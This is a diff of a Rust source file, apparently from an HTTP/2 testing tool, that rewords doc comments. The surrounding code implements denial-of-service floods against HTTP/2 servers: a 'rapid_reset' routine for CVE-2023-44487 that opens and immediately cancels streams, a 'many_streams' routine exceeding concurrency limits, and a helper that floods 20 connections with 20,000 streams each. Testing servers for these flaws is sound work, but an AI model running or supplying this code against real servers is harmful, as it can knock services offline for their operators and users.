@@ -1,4 +1,4 @@
-//! Frames of HTTP/2 in numbers that no client needs.
+//! Floods of HTTP/2 frames.
 
 use tokio::io::AsyncWriteExt as _;
 
@@ -11,7 +11,7 @@ const SETTINGS: u8 = 4;
 const END_STREAM_AND_HEADERS: u8 = 5;
 const END_HEADERS: u8 = 4;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
-/// `GET / ` over `http`, all of the static table.
+/// `GET /` over `http`, from the static table of HPACK.
 const GET: [u8; 3] = [0x82, 0x84, 0x86];
 const CONNECTIONS: usize = 20;
 const STREAMS: u32 = 20_000;
@@ -24,7 +24,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// Streams that are reset as soon as they are held (CVE-2023-44487).
+/// Streams that are opened and reset at once (CVE-2023-44487).
 pub(crate) async fn rapid_reset(target: Target) {
     flood(&target, |stream| {
         let mut frames = frame(HEADERS, END_STREAM_AND_HEADERS, stream, &GET);
@@ -34,12 +34,12 @@ pub(crate) async fn rapid_reset(target: Target) {
     .await;
 }
 
-/// Requests whose bodies never come, more than the server allows at once.
+/// More concurrent requests than the server allows, whose bodies never arrive.
 pub(crate) async fn many_streams(target: Target) {
     flood(&target, |stream| frame(HEADERS, END_HEADERS, stream, &GET)).await;
 }
 
-/// Sends frames on several connections until the server closes them, and reads nothing.
+/// Sends frames on several connections until the server closes them, without reading.
 async fn flood(target: &Target, frames: impl Fn(u32) -> Vec<u8>) {
     let mut opened = Vec::new();
     for _ in 0..CONNECTIONS {
